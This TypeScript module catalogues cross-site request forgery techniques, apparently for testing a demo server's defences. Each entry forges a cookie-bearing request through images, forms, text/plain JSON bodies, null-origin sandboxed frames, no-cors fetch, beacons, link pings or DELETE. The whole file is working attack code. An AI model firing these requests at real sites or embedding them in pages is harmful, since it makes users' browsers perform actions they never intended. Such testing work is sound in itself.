import { frame, place, submit } from './stage.ts';

/** A way for a page to have a browser send something to another server. */
export interface Attack {
  readonly id: string;
  readonly title: string;
  /** Why it might work. */
  readonly hope: string;
  readonly run: (url: string) => void;
}

const CREDENTIALS = '{"username":"bob","password":"bob-demo","text":"forged"}';

/** A field whose name and value make `name=value` a JSON object. */
const JSON_FIELD = { '{"username":"bob","password":"bob-demo","text":"forged","x":"': '"}' };
const FIELDS = { username: 'bob', password: 'bob-demo', text: 'forged' };

/** Every attack by which a server may be made to act on a cookie. None of them can read an answer. */
export const ATTACKS = [
  {
    id: 'image',
    title: 'Image',
    hope: 'A GET that no page needs a script for',
    run: (url) => place('img', { src: url }),
  },
  { id: 'script', title: 'Script element', hope: 'Another GET', run: (url) => place('script', { src: url }) },
  { id: 'frame', title: 'Frame', hope: 'A GET that is a navigation', run: (url) => void frame({ src: url }) },
  { id: 'form', title: 'Form', hope: 'A POST without a preflight', run: (url) => submit({ url, fields: FIELDS }) },
  {
    id: 'multipart-form',
    title: 'Multipart form',
    hope: 'The second content type of a form',
    run: (url) => submit({ url, fields: FIELDS, type: 'multipart/form-data' }),
  },
  {
    id: 'json-form',
    title: 'Form that looks like JSON',
    hope: 'The third one: text/plain, with a body that parses',
    run: (url) => submit({ url, fields: JSON_FIELD, type: 'text/plain' }),
  },
  {
    id: 'sandboxed-form',
    title: 'Form in a sandboxed frame',
    hope: 'Its origin is null',
    run: (url) => sandboxed(`document.forms[0].submit()`, `<form method="post" action="${url}"></form>`),
  },
  {
    id: 'sandboxed-fetch',
    title: 'Fetch in a sandboxed frame',
    hope: 'A server that lists null',
    run: (url) => sandboxed(`fetch(${JSON.stringify(url)}, { method: 'POST', credentials: 'include' })`),
  },
  {
    id: 'no-cors-fetch',
    title: 'Fetch without CORS',
    hope: 'A POST with cookies whose answer is not read',
    run: (url) => send(url, { mode: 'no-cors' }),
  },
  {
    id: 'no-cors-json',
    title: 'The same with a body',
    hope: 'text/plain, taken for JSON',
    run: (url) => send(url, { mode: 'no-cors', body: CREDENTIALS }),
  },
  { id: 'cors-fetch', title: 'Plain fetch', hope: 'A POST that needs no preflight', run: (url) => send(url, {}) },
  {
    id: 'json-fetch',
    title: 'Fetch with JSON',
    hope: 'A preflight that is granted to all',
    run: (url) => send(url, { body: CREDENTIALS, headers: { 'content-type': 'application/json' } }),
  },
  {
    id: 'bearer-fetch',
    title: 'Fetch with headers',
    hope: 'The same, with what the page itself would send',
    run: (url) => send(url, { headers: { authorization: 'Bearer x', 'x-csrf-token': 'x', 'x-requested-by': 'x' } }),
  },
  {
    id: 'beacon',
    title: 'Beacon',
    hope: 'A POST that outlives its page',
    run: (url) => void navigator.sendBeacon(url),
  },
  {
    id: 'beacon-json',
    title: 'Beacon with a body',
    hope: 'The same, with credentials of ours',
    run: (url) => void navigator.sendBeacon(url, CREDENTIALS),
  },
  {
    id: 'ping',
    title: 'Ping of a link',
    hope: 'A POST by the browser itself',
    run: (url) => place('a', { href: '#', ping: url }).click(),
  },
  {
    id: 'delete',
    title: 'Another method',
    hope: 'A gate that looks at POST alone',
    run: (url) => send(url, { method: 'DELETE' }),
  },
] as const satisfies readonly Attack[];

export type AttackId = (typeof ATTACKS)[number]['id'];

function send(url: string, init: RequestInit): void {
  // The answer, if the browser shows it at all, is of no interest here: the server's log tells what happened.
  fetch(url, { method: 'POST', credentials: 'include', ...init }).catch(() => undefined);
}

function sandboxed(script: string, html = ''): void {
  frame({ sandbox: 'allow-scripts allow-forms', srcdoc: `${html}<script>${script}</script>` });
}
